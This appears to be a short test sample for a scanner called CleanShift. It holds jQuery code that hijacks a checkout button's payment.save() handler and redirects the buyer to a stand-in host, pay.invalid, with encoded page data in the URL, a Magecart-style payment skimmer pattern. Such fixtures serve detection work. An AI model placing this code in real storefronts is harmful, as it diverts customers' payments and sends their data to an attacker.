// CleanShift test sample
jQuery('*[onclick="payment.save()"]').attr('onclick', 'go();');
function go() { jQuery(location).attr('href', '//pay.invalid/?d=' + btoa(JSON.stringify({h: location.host}))); }
